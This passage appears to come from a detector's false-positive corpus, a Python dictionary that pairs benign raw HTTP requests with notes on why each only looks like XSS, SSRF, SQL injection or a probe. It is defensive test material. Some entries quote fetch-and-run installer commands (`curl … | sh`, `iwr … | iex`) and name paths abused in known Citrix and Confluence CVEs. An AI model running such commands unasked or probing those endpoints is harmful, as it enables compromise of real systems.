    'raw::POST /cwmpWeb/CPEMgt HTTP/1.1\r\nHost: acs.isp-example.net:7547\r\nUser-Agent: HW_ATP_HTTP\r\nSOAPAction: ""\r\nConnection: keep-alive\r\nContent-Type: text/xml; charset="utf-8"\r\nContent-Length: 1767\r\n\r\n<?xml version="1.0" encoding="UTF-8"?>\n<soap-env:Envelope xmlns:soap-env="http://schemas.xmlsoap.org/soap/envelope/" xmlns:soap-enc="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:cwmp="urn:dslforum-org:cwmp-1-0">\n<soap-env:Header><cwmp:ID soap-env:mustUnderstand="1">1804289383</cwmp:ID></soap-env:Header>\n<soap-env:Body><cwmp:Inform><DeviceId><Manufacturer>Huawei Technologies Co., Ltd</Manufacturer><OUI>00E0FC</OUI><ProductClass>HG8245Q2</ProductClass><SerialNumber>48575443A1B2C3D4</SerialNumber></DeviceId><Event soap-enc:arrayType="cwmp:EventStruct[2]"><EventStruct><EventCode>2 PERIODIC</EventCode><CommandKey></CommandKey></EventStruct><EventStruct><EventCode>4 VALUE CHANGE</EventCode><CommandKey></CommandKey></EventStruct></Event><MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2024-03-04T10:15:22+01:00</CurrentTime><RetryCount>0</RetryCount><ParameterList soap-enc:arrayType="cwmp:ParameterValueStruct[4]"><ParameterValueStruct><Name>InternetGatewayDevice.DeviceInfo.SoftwareVersion</Name><Value xsi:type="xsd:string">V5R020C10S115</Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.ConnectionRequestURL</Name><Value xsi:type="xsd:string">http://100.72.14.9:7547/tr069</Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.ManagementServer.ParameterKey</Name><Value xsi:type="xsd:string"></Value></ParameterValueStruct><ParameterValueStruct><Name>InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANPPPConnection.1.ExternalIPAddress</Name><Value xsi:type="xsd:string">81.22.104.77</Value></ParameterValueStruct></ParameterList></cwmp:Inform></soap-env:Body></soap-env:Envelope>\n':
        "a TR-069 Inform naming the CPE's ConnectionRequestURL on a CGNAT address: a URL with a bare IP in a value reads as remote inclusion",
    "raw::POST /admin/posts/15 HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://app.example.com/admin/posts/15/edit\r\nCookie: XSRF-TOKEN=eyJpdiI6ImtYOXBRMnJUNXZXOHlaMWIiLCJ2YWx1ZSI6IlptOXZZbUZ5WW1GNmNYVjRNVEl6TkRVMk56ZzVNR0ZpWTJSbFptZG9hV3ByYkcxdWIzQnhjbk4wZFhaM2VIbDYiLCJtYWMiOiI0ZTFmOGEyYjZjOWQzZTdmMGE1YjhjMWQ0ZTdmMmE2YjljM2Q2ZTBmNGE3YjFjNWQ4ZTJmNmE5YjNjN2QwZTRmIiwidGFnIjoiIn0%3D; laravel_session=eyJpdiI6ImExQjJjM0Q0ZTVGNmc3SDgiLCJ2YWx1ZSI6ImMyVnpjMmx2Ymw5d1lYbHNiMkZrWDJWdVkzSjVjSFJsWkY5aWVWOXNZWEpoZG1WcyIsIm1hYyI6IjlmOGU3ZDZjNWI0YTM5MjgxNzA2ZjVlNGQzYzJiMWEwOWY4ZTdkNmM1YjRhMzkyODE3MDZmNWU0ZDNjMmIxYTAiLCJ0YWciOiIifQ%3D%3D\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://app.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 390\r\n\r\n_method=PUT&_token=h3KxP9mQ2vL7rT5wN8bC4yF6gJ1sD0aZeUiOoXq&title=Eloquent%3A%20avoiding%20N%2B1%20with%20with()&slug=eloquent-avoiding-n-plus-1&body=Use%20eager%20loading%3A%0A%0A%60%60%60php%0A%24posts%20%3D%20Post%3A%3Awith('author'%2C%20'tags')-%3Ewhere('published'%2C%20true)-%3Eget()%3B%0A%60%60%60%0A%0ACheck%20the%20query%20log%20with%20%60DB%3A%3AenableQueryLog()%3B%60.&published=1":
        'a blog post with PHP in a Markdown fence: code by design',
    "raw::POST /newreply.php?do=postreply&t=245612 HTTP/1.1\r\nHost: forums.example.org\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://forums.example.org/newreply.php?do=newreply&p=1843221\r\nCookie: bb_userid=18842; bb_password=9a4f1c7e3b5d2e8a6c0f9b1d3e5a7c2f; bb_sessionhash=3e9a1c7f5b2d8e4a6c0f9b1d3e5a7c2f\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://forums.example.org\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 719\r\n\r\ntitle=&message=%5BQUOTE%3Ddave_m%3B1843221%5DStill%20getting%20the%20white%20page%20after%20upgrading%20to%20PHP%208.1%5B%2FQUOTE%5D%0A%0ACheck%20your%20config.php%2C%20the%20old%20mysql%20extension%20is%20gone.%20Mine%20was%3A%0A%0A%5BPHP%5D%24config%5B'Database'%5D%5B'dbtype'%5D%20%3D%20'mysqli'%3B%0A%24config%5B'Database'%5D%5B'dbname'%5D%20%3D%20'forum'%3B%5B%2FPHP%5D%0A%0AAlso%20clear%20the%20datastore%20cache.&wysiwyg=0&iconid=0&s=&securitytoken=1709546122-3f6a9c2e8b1d4f7a0c5e9b2d6f8a1c4e7b0d3f69&do=postreply&t=245612&p=1843221&specifiedpost=1&posthash=c4e8a2f6b0d3e7a1c5f9b2d6e0a4c8f1&poststarttime=1709546100&loggedinuser=18842&multiquoteempty=&sbutton=Submit+Reply&signature=1&parseurl=1&emailupdate=9999":
        'a forum reply quoting shell commands: code by design',
    'raw::POST /wp-admin/post.php HTTP/1.1\r\nHost: blog.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\nReferer: https://blog.example.com/wp-admin/post.php?post=57&action=edit&classic-editor\r\nCookie: wordpress_logged_in_5c0f1a2b3d4e5f6a7b8c9d0e1f2a3b4c=admin%7C1709718922%7CkX9pQ2vN7mL4rT1wB8yC5dF3gH6jK0sAeUiOoZxYcVb%7C3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\nOrigin: https://blog.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 850\r\n\r\n_wpnonce=8c2e6a0f4b&_wp_http_referer=%2Fwp-admin%2Fpost.php%3Fpost%3D57%26action%3Dedit%26classic-editor&user_ID=1&action=editpost&originalaction=editpost&post_author=1&post_type=post&original_post_status=draft&post_ID=57&post_title=Our%20launch%2C%20as%20seen%20on%20Twitter&content=Thanks%20for%20all%20the%20kind%20words!%0A%0A%3Cblockquote%20class%3D%22twitter-tweet%22%3E%3Cp%20lang%3D%22en%22%20dir%3D%22ltr%22%3ECongrats%20to%20the%20team%20on%20the%20launch!%3C%2Fp%3E%26mdash%3B%20Sam%20(%40sam_dev)%20%3Ca%20href%3D%22https%3A%2F%2Ftwitter.com%2Fsam_dev%2Fstatus%2F1765012345678901234%3Fref_src%3Dtwsrc%255Etfw%22%3EMarch%205%2C%202024%3C%2Fa%3E%3C%2Fblockquote%3E%0A%3Cscript%20async%20src%3D%22https%3A%2F%2Fplatform.twitter.com%2Fwidgets.js%22%20charset%3D%22utf-8%22%3E%3C%2Fscript%3E&publish=Publish&post_status=draft&visibility=public':
        "a WordPress post embedding Twitter's widgets.js `<script>`: an administrator's stored script is what a stored XSS is",
    'raw::POST /rest/api/content HTTP/1.1\r\nHost: wiki.example.com\r\nUser-Agent: Apache-HttpClient/4.5.14 (Java/17.0.10)\r\nAccept: application/json\r\nAuthorization: Bearer NjYzMTk0NjQ3NzQ5OmK8v2xQ9pL3mN7rT5wB1yC4dF6gH\r\nContent-Type: application/json\r\nContent-Length: 525\r\n\r\n{"type":"page","title":"Deploying the orders service","space":{"key":"DEV"},"ancestors":[{"id":"983041"}],"body":{"storage":{"representation":"storage","value":"<p>Run the migration before deploying:</p><ac:structured-macro ac:name=\\"code\\" ac:schema-version=\\"1\\"><ac:parameter ac:name=\\"language\\">bash</ac:parameter><ac:plain-text-body><![CDATA[./gradlew flywayMigrate -Dflyway.url=\\"jdbc:postgresql://db-01:5432/orders\\"\\nkubectl rollout restart deployment/orders -n prod]]></ac:plain-text-body></ac:structured-macro>"}}}':
        'a Confluence page with a bash code macro: code by design',
    'raw::POST /instances HTTP/1.1\r\nHost: boot-admin.internal:8080\r\nUser-Agent: Java-http-client/17.0.10\r\nAccept: application/json\r\nAuthorization: Basic c2JhLWNsaWVudDpSM2chc3Rlcg==\r\nContent-Type: application/json\r\nContent-Length: 248\r\n\r\n{"name":"orders-service","managementUrl":"http://10.42.3.17:8081/actuator","healthUrl":"http://10.42.3.17:8081/actuator/health","serviceUrl":"http://10.42.3.17:8080/","metadata":{"startup":"2024-03-04T10:15:22.481+01:00","tags.environment":"prod"}}':
        'a Spring Boot Admin registration naming private-address URLs the server will call: the shape of SSRF',
    "query:s:add_filter('the_content') wpautop":
        "a search for a WordPress call `add_filter('the_content')`: a function call with a string in a search box",
    "form:description:{code:sql}SELECT id, status FROM orders WHERE status = 'PENDING' AND created_at < now() - interval '1 day';{code}":
        'a Jira description with a SQL code block: code by design',
})

KNOWN_FP.update({
    'raw::POST /nitro/v1/config/responderpolicy HTTP/1.1\r\nHost: adc01.corp.example.com\r\nUser-Agent: python-requests/2.31.0\r\nAccept: application/json\r\nContent-Type: application/json\r\nCookie: NITRO_AUTH_TOKEN=##7B3E1F0C9D8A6B5E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F6A5B4C3D2E1F0\r\nContent-Length: 259\r\n\r\n{"responderpolicy":{"name":"ctx267027_block","rule":"HTTP.REQ.URL.DECODE_USING_TEXT_MODE.CONTAINS(\\"/vpns/\\") && (!CLIENT.SSLVPN.IS_SSLVPN) || HTTP.REQ.URL.DECODE_USING_TEXT_MODE.CONTAINS(\\"/../\\")","action":"RESET","comment":"Vendor-recommended mitigation"}}':
        "a Citrix responder policy (the vendor's mitigation for CVE-2019-19781) whose expression quotes `/../` and `/vpns/`: configuration that names the attack",
    'raw::GET /dana/home/launch.cgi?url=https%3A%2F%2Fintranet.corp.local%2Fhr%2Fportal%2Fdefault.aspx%3Ftab%3Dleave HTTP/1.1\r\nHost: remote.example.com\r\nUser-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:126.0) Gecko/20100101 Firefox/126.0\r\nAccept: text/html,*/*;q=0.8\r\nReferer: https://remote.example.com/dana/home/index.cgi\r\nCookie: DSID=9a7d2c41e5f08b3612ad4e97c0b58f21; DSFirstAccess=1718352011; DSLastAccess=1718352101\r\n\r\n':
        "a VPN portal bookmark launching an intranet URL: an internal name in `url` is the shape of SSRF, and this gateway's job",
    'raw::POST /rest/api/content HTTP/1.1\r\nHost: wiki.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nContent-Type: application/json; charset=UTF-8\r\nX-Atlassian-Token: no-check\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: https://wiki.example.com\r\nReferer: https://wiki.example.com/pages/createpage.action?spaceKey=OPS&fromPageId=65601\r\nCookie: JSESSIONID=1A2B3C4D5E6F70819A2B3C4D5E6F7081; seraph.confluence=65537%3A9f3a2b1c0d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a\r\nContent-Length: 580\r\n\r\n{"type":"page","title":"Runbook: rotate TLS certs on edge nodes","space":{"key":"OPS"},"ancestors":[{"id":"65601"}],"body":{"storage":{"value":"<p>Run on each node:</p><ac:structured-macro ac:name=\\"code\\"><ac:parameter ac:name=\\"language\\">bash</ac:parameter><ac:plain-text-body><![CDATA[sudo certbot renew --deploy-hook \\"systemctl reload nginx\\" && curl -sI https://localhost/healthz | head -1]]></ac:plain-text-body></ac:structured-macro><p>Then check <a href=\\"https://grafana.example.com/d/tls?orgId=1&amp;var-host=All\\">the dashboard</a>.</p>","representation":"storage"}}}':
        'a Confluence page with a bash code macro: code by design',
    'raw::GET /dosearchsite.action?cql=siteSearch+~+%22select+*+from+pg_stat_activity%22+and+space+%3D+%22DBA%22&queryString=select+*+from+pg_stat_activity HTTP/1.1\r\nHost: wiki.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nReferer: https://wiki.example.com/display/DBA/Database+Team+Home\r\nCookie: JSESSIONID=1A2B3C4D5E6F70819A2B3C4D5E6F7081\r\n\r\n':
        'a wiki search for a SQL statement: SQL in a search box',
    'raw::POST /setup/setupadministrator.action HTTP/1.1\r\nHost: wiki-new.example.com:8090\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nContent-Type: application/x-www-form-urlencoded\r\nOrigin: http://wiki-new.example.com:8090\r\nReferer: http://wiki-new.example.com:8090/setup/setupadministrator-start.action\r\nCookie: JSESSIONID=7E6D5C4B3A2918F7E6D5C4B3A2918F70\r\nContent-Length: 213\r\n\r\nusername=admin&fullName=Confluence+Administrator&email=it-admins%40example.com&password=C0nfl%21%3F%23%26ence&confirm=C0nfl%21%3F%23%26ence&setup-next-button=Next&atl_token=5e8f2a1c9b7d3e6f0a4c8b2d1e9f7a3c5b6d8e0f':
        "Confluence's setup wizard creating the first admin: used once per install, and the endpoint CVE-2023-22515 abuses (scanner:probe_path)",
    'raw::POST /rest/api/2/search HTTP/1.1\r\nHost: jira.example.com\r\nUser-Agent: Atlassian Connect/Python\r\nAccept: application/json\r\nContent-Type: application/json\r\nAuthorization: Basic c3ZjLWJvdDpTM3J2IWNlQm90IzI=\r\nContent-Length: 192\r\n\r\n{"jql":"text ~ \\"\\\\\\"NullPointerException\\\\\\" OrderService.java\\" AND created >= -7d AND labels not in (wontfix, duplicate)","startAt":0,"maxResults":100,"fields":["key","summary","reporter"]}':
        'JQL `text ~ "…" AND created >= -7d`: a quoted phrase and a comparison read as a tautology',
    'raw::POST /rest/api/2/issue HTTP/1.1\r\nHost: jira.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: application/json\r\nContent-Type: application/json\r\nX-Atlassian-Token: no-check\r\nCookie: JSESSIONID=0F1E2D3C4B5A69788796A5B4C3D2E1F0; atlassian.xsrf.token=B7K2-9QXP-4LMN-8RST_5d1a2b3c4e5f6a7b8c9d_lin\r\nContent-Length: 525\r\n\r\n{"fields":{"project":{"key":"SHOP"},"issuetype":{"name":"Bug"},"summary":"Checkout fails for customers with an apostrophe in their surname","description":"Customer *O\'Brien* cannot place orders. Log:\\n{noformat}\\nERROR: syntax error at or near \\"Brien\\"\\n  LINE 1: SELECT * FROM customers WHERE last_name = \'O\'Brien\'\\n{noformat}\\nLooks like the legacy search builds the query by string concatenation ({{CustomerDao.findByName}}). Should use a prepared statement.","priority":{"name":"High"},"labels":["checkout","escaping"]}}':
        'a Jira issue quoting a SQL error and its statement: code by design',
    'raw::POST /rest/api/2/issue/OPS-1432/comment HTTP/1.1\r\nHost: jira.example.com\r\nUser-Agent: jira-cli/1.5.1\r\nAccept: application/json\r\nContent-Type: application/json\r\nAuthorization: Bearer MzQ2NTg5NzEyMzQ1OkppcmFQQVRzZWNyZXRfeDd5OHo5\r\nContent-Length: 224\r\n\r\n{"body":"Repro on staging:\\n{code:bash}\\ncurl -s -X POST https://staging.example.com/api/orders \\\\\\n  -H \'Content-Type: application/json\' -d \'{\\"items\\":[{\\"sku\\":\\"AB-1\\",\\"qty\\":0}]}\'\\n{code}\\nReturns 500 instead of 422."}':
        'a Jira comment with a shell repro: code by design',
    'raw::POST /rest/api/latest/projects/PROJ/repos/web-app/pull-requests/42/comments?diffType=EFFECTIVE&markup=true HTTP/1.1\r\nHost: bitbucket.example.com\r\nUser-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:126.0) Gecko/20100101 Firefox/126.0\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nContent-Type: application/json\r\nX-AUSERNAME: jdoe\r\nX-Requested-With: XMLHttpRequest\r\nCookie: BITBUCKETSESSIONID=4B3A29180F7E6D5C4B3A29180F7E6D5C\r\nContent-Length: 336\r\n\r\n{"text":"Please don\'t build this with f-strings:\\n```python\\ncur.execute(f\\"SELECT id, email FROM users WHERE name = \'{name}\'\\")\\n```\\nuse parameters instead:\\n```python\\ncur.execute(\\"SELECT id, email FROM users WHERE name = %s\\", (name,))\\n```","anchor":{"line":88,"lineType":"ADDED","fileType":"TO","path":"app/repository/users.py"}}':
        'a code review comment with SQL in Python: code by design',
    'raw::POST /owa/service.svc?action=CreateItem&app=Mail&n=57 HTTP/1.1\r\nHost: mail.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80\r\nAccept: */*\r\nContent-Type: application/json; charset=utf-8\r\nAction: CreateItem\r\nX-OWA-CANARY: Zk8yLjEuMi4zNC41NjAzZjdhYjkxYzJkNDVlNmY3ODlhMGJjZGVmMTIzNDU2Nzg5.\r\nX-Requested-With: XMLHttpRequest\r\nReferer: https://mail.example.com/owa/\r\nCookie: X-OWA-CANARY=Zk8yLjEuMi4zNC41NjAzZjdhYjkxYzJkNDVlNmY3ODlhMGJjZGVmMTIzNDU2Nzg5.; ClientId=5F3A1C2D8E9B4A7F6C0D1E2F3A4B5C6D\r\nContent-Length: 1090\r\n\r\n{"__type":"CreateItemJsonRequest:#Exchange","Header":{"__type":"JsonRequestHeaders:#Exchange","RequestServerVersion":"V2017_08_18","TimeZoneContext":{"__type":"TimeZoneContext:#Exchange","TimeZoneDefinition":{"__type":"TimeZoneDefinitionType:#Exchange","Id":"W. Europe Standard Time"}}},"Body":{"__type":"CreateItemRequest:#Exchange","Items":[{"__type":"Message:#Exchange","Subject":"Mailbox export - how to","Body":{"__type":"BodyContentType:#Exchange","BodyType":"HTML","Value":"<html><head><meta http-equiv=\\"Content-Type\\" content=\\"text/html; charset=UTF-8\\"></head><body><div style=\\"font-family:Calibri,Arial,Helvetica,sans-serif; font-size:12pt\\">Hi team,<br>from the EMS run: <code>Get-Mailbox -ResultSize Unlimited | Select DisplayName,PrimarySmtpAddress | Export-Csv C:\\\\Temp\\\\mbx.csv -NoTypeInformation</code><br>Cheers, J.</div></body></html>"},"ToRecipients":[{"EmailAddress":"it-ops@example.com"}]}],"MessageDisposition":"SendAndSaveCopy","SavedItemFolderId":{"__type":"TargetFolderId:#Exchange","BaseFolderId":{"__type":"DistinguishedFolderId:#Exchange","Id":"sentitems"}}}}':
        'an e-mail quoting a PowerShell pipeline (`Get-Mailbox … | Select`): code by design',
    'raw::POST /api/v1/folders/458812345/files HTTP/1.1\r\nHost: mft.example.com\r\nUser-Agent: python-requests/2.31.0\r\nAccept: application/json\r\nAuthorization: Bearer AFsR9kP2mQ7vX1zL4cN8bH3jT6wY0eU5iO2aS9dF7gK1lZ3xC\r\nContent-Type: multipart/form-data; boundary=8f1c2a7e4b9d3f0a5c6e\r\nContent-Length: 403\r\n\r\n--8f1c2a7e4b9d3f0a5c6e\r\nContent-Disposition: form-data; name="file"; filename="Payroll_2024-06 (final).csv"\r\nContent-Type: text/csv\r\n\r\nemployee_id;name;gross;net\r\n00012345;"O\'Neil, Sean";5230.00;3411.27\r\n00012388;"Müller-Lüdenscheidt, Eva";6100.50;3880.02\r\n\r\n--8f1c2a7e4b9d3f0a5c6e\r\nContent-Disposition: form-data; name="comments"\r\n\r\nJune run - replaces the file sent 06/13\r\n--8f1c2a7e4b9d3f0a5c6e--\r\n':
        'an uploaded CSV whose `;` separators and `net` column read as a command chain: file contents are inspected as text',
    'raw::PUT /backups/db/pg_dump_2024-06-14.sql.gz HTTP/1.1\r\nHost: files.example.com:9090\r\nUser-Agent: aws-cli/2.15.58 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off command/s3.cp\r\nContent-Type: application/gzip\r\nX-Amz-Date: 20240614T091530Z\r\nX-Amz-Content-Sha256: UNSIGNED-PAYLOAD\r\nAuthorization: AWS4-HMAC-SHA256 Credential=backup_svc/20240614/us-east-1/s3/aws4_request, SignedHeaders=content-type;host;x-amz-content-sha256;x-amz-date, Signature=3b1f0c9a2d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a\r\nContent-Length: 42\r\n\r\n\x1f\udc8b\x08\x08\udcc2\x0bkf\x00\x03pg_dump_2024-06-14.sql\x00\udced\udc9d[s\udcdb\udcc6\x15\udcc7\udcdf':
        'an S3 upload of a database dump: the dump name in the path reads as a backup probe (like the PUT of a dump above)',
    'raw::POST /pipeline-model-converter/validate HTTP/1.1\r\nHost: jenkins.example.com\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\nJenkins-Crumb: 9c1e7f3a2b8d4e6f0a5c1b7d3e9f2a4c6b8d0e1f3a5c7b9d2e4f6a8c0b1d3e5f\r\nAuthorization: Basic amRvZToxMWQ0ZThmNjFhMGM1YjNkN2U5ZjJhNDZjMWY4ZTJiNzNj\r\nContent-Type: multipart/form-data; boundary=------------------------3c9b1f7e2a4d6c80\r\nContent-Length: 448\r\n\r\n--------------------------3c9b1f7e2a4d6c80\r\nContent-Disposition: form-data; name="jenkinsfile"\r\n\r\npipeline {\n  agent { docker { image \'maven:3.9-eclipse-temurin-21\' } }\n  stages {\n    stage(\'Build\') {\n      steps {\n        sh \'mvn -B -DskipTests clean package\'\n      }\n    }\n    stage(\'Test\') {\n      steps {\n        sh \'mvn -B test\'\n        junit \'target/surefire-reports/*.xml\'\n      }\n    }\n  }\n}\n\r\n--------------------------3c9b1f7e2a4d6c80--\r\n':
        "a Jenkinsfile with `sh` steps sent to Jenkins' linter: code by design",
    'raw::POST /github-webhook/ HTTP/1.1\r\nHost: jenkins.example.com\r\nUser-Agent: GitHub-Hookshot/2d9d7f1\r\nAccept: */*\r\nContent-Type: application/json\r\nX-GitHub-Event: push\r\nX-GitHub-Delivery: 6a1f2e3d-4c5b-11ef-9a8b-7c6d5e4f3a2b\r\nX-GitHub-Hook-ID: 482113907\r\nX-Hub-Signature-256: sha256=5d2f8a1c9b3e7f0a4c6d2e8b1f9a3c7e5b0d4f2a6c8e1b3d5f7a9c0e2b4d6f8a\r\nContent-Length: 496\r\n\r\n{"ref":"refs/heads/main","before":"9f1c2b3a4d5e6f708192a3b4c5d6e7f809a1b2c3","after":"a3f9c21d4e5b6a7c8d9e0f1a2b3c4d5e6f7a8b9c","repository":{"full_name":"acme/web-app","clone_url":"https://github.com/acme/web-app.git"},"head_commit":{"id":"a3f9c21d4e5b6a7c8d9e0f1a2b3c4d5e6f7a8b9c","message":"Escape user input in search: use html.escape() instead of replace(\'<\', \'&lt;\') (#482)","author":{"name":"Jane Doe","email":"jane@example.com"},"modified":["app/views/search.py","tests/test_search.py"]}}':
        "a commit message quoting `replace('<', '&lt;')`: code by design",
    'raw::PUT /api/v4/projects/42/repository/files/docs%2Finstall.md HTTP/1.1\r\nHost: gitlab.example.com\r\nUser-Agent: python-gitlab/4.6.0\r\nAccept: application/json\r\nContent-Type: application/json\r\nPRIVATE-TOKEN: glpat-x9Kq2LmN7pR4sT1vW8yZ\r\nContent-Length: 324\r\n\r\n{"branch":"docs/install","commit_message":"docs: quick install for Linux","content":"# Install\\n\\n```sh\\ncurl -fsSL https://get.example.com/cli/install.sh | sh\\nexport PATH=\\"$HOME/.example/bin:$PATH\\"\\nexample-cli --version\\n```\\n\\nOn Windows run `iwr https://get.example.com/cli/install.ps1 -useb | iex` in PowerShell.\\n"}':
        'a docs file with `curl … | sh`: code by design',
    'raw::POST /wp-json/wp/v2/posts/1234?_locale=user HTTP/1.1\r\nHost: blog.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: application/json, */*;q=0.1\r\nContent-Type: application/json\r\nX-WP-Nonce: 8c1f3a9e2b\r\nX-HTTP-Method-Override: PUT\r\nOrigin: https://blog.example.com\r\nReferer: https://blog.example.com/wp-admin/post.php?post=1234&action=edit\r\nCookie: wordpress_logged_in_5c3b7a1e9f2d4c6a8b0e1f2a3b4c5d6e=editor%7C1718524800%7CkQ9vX2pL7mN4bR1tY8wZ3cF6hJ0sD5gA%7C3f2a; wp-settings-2=libraryContent%3Dbrowse\r\nContent-Length: 479\r\n\r\n{"id":1234,"title":"Hardening nginx: a short checklist","content":"<!-- wp:paragraph -->\\n<p>Deny access to dotfiles:</p>\\n<!-- /wp:paragraph -->\\n\\n<!-- wp:code -->\\n<pre class=\\"wp-block-code\\"><code>location ~ /\\\\.(?!well-known) {\\n    deny all;\\n}\\n\\nlocation ~* \\\\.(php|pl|cgi)$ {\\n    return 403;\\n}</code></pre>\\n<!-- /wp:code -->\\n\\n<!-- wp:paragraph -->\\n<p>Then run <code>nginx -t &amp;&amp; systemctl reload nginx</code>.</p>\\n<!-- /wp:paragraph -->","status":"draft"}':
        'a WordPress post with an nginx snippet in a code block: code by design',
    'raw::POST /admin/actions/elements/save HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: application/json\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nX-CSRF-Token: 5Nq8Zk1vL7mR3tY0wB2cF6hJ9sD4gA1eU8iO5pQ2xC7zV0bN3mK6lH9jG2fD5s==\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: https://www.example.net\r\nReferer: https://www.example.net/admin/entries/news/1841-summer-opening-hours?site=default\r\nCookie: CraftSessionId=k8s2m1q9v7b3n4p0; CRAFT_CSRF_TOKEN=e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6\r\nContent-Length: 605\r\n\r\nCRAFT_CSRF_TOKEN=5Nq8Zk1vL7mR3tY0wB2cF6hJ9sD4gA1eU8iO5pQ2xC7zV0bN3mK6lH9jG2fD5s%3D%3D&elementId=1841&siteId=1&provisional=1&title=Summer+opening+hours+%28Jul+%26+Aug%29&slug=summer-opening-hours&fields%5Bbody%5D=%3Ch2%3EHours%3C%2Fh2%3E%3Cp%3EMon%E2%80%93Fri+%3Cstrong%3E9%3A00+%E2%80%93+17%3A00%3C%2Fstrong%3E%2C+Sat+by+appointment+%26gt%3B+call+us.%3C%2Fp%3E%3Cfigure%3E%3Cimg+src%3D%22%7Basset%3A2231%3Aurl%7C%7Chttps%3A%2F%2Fwww.example.net%2Fuploads%2Fstorefront.jpg%7D%22+alt%3D%22%22%3E%3C%2Ffigure%3E&fields%5BseoDescription%5D=Opening+hours+for+July+%26+August+-+%22closed+on+15%2F08%22&enabled=1':
        'rich text with `<img src=…>` in a CMS field: an element with attributes is HTML injection wherever it lands unescaped',
    'raw::POST /admin_8k2q/catalog/product/save/id/123/type/simple/store/0/set/4/back/edit/ HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36\r\nAccept: application/json, text/javascript, */*; q=0.01\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nX-Requested-With: XMLHttpRequest\r\nOrigin: https://shop.example.com\r\nCookie: admin=q8v2m1k9b7n3p4c0x5z6\r\nContent-Length: 